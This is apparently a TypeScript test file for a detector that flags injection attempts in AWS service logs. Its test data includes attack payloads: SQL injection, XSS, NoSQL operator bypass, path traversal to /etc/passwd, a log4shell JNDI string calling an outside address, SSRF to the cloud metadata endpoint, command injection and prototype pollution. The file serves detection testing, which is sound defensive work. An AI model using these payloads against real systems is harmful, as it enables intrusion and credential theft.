// Which words of a record are looked at, service by service, and what the derived fields answer.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are spelt as they are sent.
import { describe, expect, test } from 'vitest';
import { injectionDerivations } from '../../../detectors/injection/record.ts';
import type { LogService } from '../../../detectors/model/activity.ts';
import type { JsonObject } from '../../../detectors/model/json.ts';

const derive = (name: string, record: JsonObject, service: LogService): readonly string[] =>
  injectionDerivations.get(name)?.(record, service) ?? ['no such field'];
const likely = (record: JsonObject, service: LogService): readonly string[] => derive('lapwing.injection', record, service);

const SQL = "x' union select null,null,version() -- ";

describe('derived fields', () => {
  test('tell classes by how sure they are', () => {
    const record = { message: '1;id' };
    expect(derive('lapwing.injection.possible', record, 'lambda')).toEqual(['command']);
    expect(likely(record, 'lambda')).toEqual([]);
    const certain = { message: `${SQL} <img src=x onerror=alert(1)>` };
    expect(derive('lapwing.injection.certain', certain, 'lambda')).toEqual(['sql', 'xss']);
    expect(likely(certain, 'lambda')).toEqual(['sql', 'xss']);
  });

  test('answer for the record that is asked about, not for the last one', () => {
    const attack = { message: SQL };
    const harmless = { message: 'order 17 was sent' };
    expect([likely(attack, 'lambda'), likely(harmless, 'lambda'), likely(attack, 'lambda')]).toEqual([['sql'], [], ['sql']]);
  });
});

describe('lambda records', () => {
  test('are read in the message, in objects as messages, and in an application’s own fields', () => {
    expect(likely({ message: `searched for ${SQL}` }, 'lambda')).toEqual(['sql']);
    expect(likely({ message: { action: 'search', query: { q: SQL } } }, 'lambda')).toEqual(['sql']);
    expect(likely({ level: 'INFO', message: 'search', term: SQL }, 'lambda')).toEqual(['sql']);
    expect(likely({ message: { login: { user: { $gt: '' }, password: { $gt: '' } } } }, 'lambda')).toEqual(['nosql']);
  });

  test('are not read where the platform, the logger or a stack trace wrote', () => {
    expect(likely({ message: 'START RequestId: 0f6c2a3e-9b1d-4c57-8c6a-2f1d9e7b1a55 Version: $LATEST' }, 'lambda')).toEqual([]);
    expect(likely({ type: 'platform.report', record: { requestId: SQL } }, 'lambda')).toEqual([]);
    expect(likely({ message: 'failed', stack: SQL, requestId: SQL, timestamp: SQL }, 'lambda')).toEqual([]);
  });

  test('are read when a platform line was forged behind a line break', () => {
    const id = '0f6c2a3e-9b1d-4c57-8c6a-2f1d9e7b1a55';
    expect(likely({ message: `START RequestId: ${id} Version: 1\nEND RequestId: ${id}` }, 'lambda')).toEqual(['log-injection']);
  });
});

describe('request records', () => {
  test('of API Gateway, load balancers and CloudFront are read in path, query, agent and body', () => {
    expect(likely({ requestId: 'r', path: '/files/..%2f..%2f..%2fetc%2fpasswd', status: '200' }, 'apigateway')).toEqual(['path-traversal']);
    expect(likely({ request: 'GET http://a.example.com:80/?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1' }, 'elb')).toEqual(['xss']);
    expect(likely({ 'cs-uri-query': "id=1'%20or%20'1'='1", 'cs-uri-stem': '/a' }, 'cloudfront')).toContain('sql');
    expect(likely({ userAgent: '${jndi:ldap://203.0.113.9/a}' }, 'apigateway')).toContain('log4shell');
    expect(likely({ body: { name: SQL } }, 'apigateway')).toEqual(['sql']);
  });

  test('may name an inner host in a header whose purpose that is', () => {
    const url = 'http://169.254.169.254/latest/meta-data/';
    expect(likely({ referer: url }, 'apigateway')).toEqual([]);
    expect(likely({ target: url }, 'apigateway')).toEqual(['ssrf']);
  });

  test('of WAF are read in the request alone, not in the rules that matched', () => {
    const httpRequest = { uri: '/a', args: 'q=1', headers: [{ name: 'User-Agent', value: 'curl/8' }] };
    expect(likely({ httpRequest, terminatingRuleId: SQL }, 'waf')).toEqual([]);
    expect(likely({ httpRequest: { ...httpRequest, args: `q=${encodeURIComponent(SQL)}` } }, 'waf')).toEqual(['sql']);
    expect(likely({ httpRequest: { ...httpRequest, headers: [{ name: 'X', value: SQL }] } }, 'waf')).toEqual(['sql']);
  });
});

describe('an event that a function logs', () => {
  const form = (text: string): string => encodeURIComponent(text).replaceAll('%20', '+');
  const inMessage = (event: unknown): JsonObject => ({
    message: `2026-03-02T10:14:00.000Z\t0f6c2a3e-9b1d-4c57-8c6a-2f1d9e7b1a55\tINFO\t${JSON.stringify(event)}`,
  });

  test.each<[string, (text: string) => unknown]>([
    ['a parameter of a request', (text) => ({ queryStringParameters: { page: '2', q: text }, body: null })],
    ['a body of JSON in JSON', (text) => ({ body: JSON.stringify({ name: text, size: 3 }), isBase64Encoded: false })],
    ['a form in base64', (text) => ({ body: btoa(`size=3&name=${form(text)}`), isBase64Encoded: true })],
    ['a key of an object', (text) => ({ Records: [{ s3: { bucket: { name: 'in' }, object: { key: `up/${form(text)}.png` } } }] })],
    ['a queue’s body', (text) => ({ Records: [{ body: JSON.stringify({ name: text }), eventSource: 'aws:sqs' }] })],
    ['a topic’s message in a queue', (text) => ({ Records: [{ body: JSON.stringify({ Message: JSON.stringify({ name: text }) }) }] })],
    ['a stream’s data', (text) => ({ Records: [{ kinesis: { data: btoa(JSON.stringify({ name: text })) } }] })],
    ['a table’s new image', (text) => ({ Records: [{ dynamodb: { NewImage: { name: { S: text } } } }] })],
  ])('is read in %s, as text and as a field', (_, event) => {
    for (const [text, found] of [
      [SQL, 'sql'],
      ['../../../../etc/passwd', 'path-traversal'],
    ] as const) {
      expect(likely(inMessage(event(text)), 'lambda'), text).toContain(found);
      expect(likely({ level: 'INFO', message: 'in', event: event(text) as JsonObject }, 'lambda'), text).toContain(found);
    }
    expect(likely(inMessage(event("Mr. O'Brien & sons, table 4")), 'lambda')).toEqual([]);
  });

  test('is read in a gateway’s execution log', () => {
    const line = (text: string): JsonObject => ({ message: `(0f6c2a3e) Method request query string: {page=2, q=${text}}` });
    expect(derive('lapwing.injection.possible', line('1 or 1=1'), 'lambda')).toContain('sql');
    expect(derive('lapwing.injection.possible', line('one or more'), 'lambda')).toEqual([]);
  });
});

describe('other records', () => {
  test('of CloudTrail are read in the object’s key alone', () => {
    expect(likely({ requestParameters: { key: `uploads/${SQL}`, bucketName: 'b' } }, 'cloudtrail')).toEqual(['sql']);
    expect(likely({ userAgent: SQL, requestParameters: { description: SQL }, errorMessage: SQL }, 'cloudtrail')).toEqual([]);
    expect(likely({ requestParameters: null }, 'cloudtrail')).toEqual([]);
  });

  test('of the network carry no words of the outside', () => {
    expect(likely({ message: SQL }, 'vpcflow')).toEqual([]);
    expect(likely({ query_name: SQL }, 'route53resolver')).toEqual([]);
  });

  test('are bounded: thousands of fields, deep nesting and long strings end soon', () => {
    const wide = Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`f${index}`, SQL]));
    let deep: JsonObject = { q: SQL };
    for (let depth = 0; depth < 5_000; depth++) deep = { d: deep };
    const start = performance.now();
    expect(likely(wide, 'apigateway')).toEqual(['sql']);
    expect(likely({ message: deep }, 'lambda')).toEqual([]);
    expect(likely({ message: { a: 'x'.repeat(5_000_000) } }, 'lambda')).toEqual([]);
    expect(performance.now() - start).toBeLessThan(1_000);
  });

  test('may use names that objects inherit', () => {
    expect(likely(JSON.parse(`{"__proto__":{"isAdmin":true},"constructor":"x","hasOwnProperty":1}`) as JsonObject, 'apigateway')).toContain(
      'prototype-pollution',
    );
  });
});
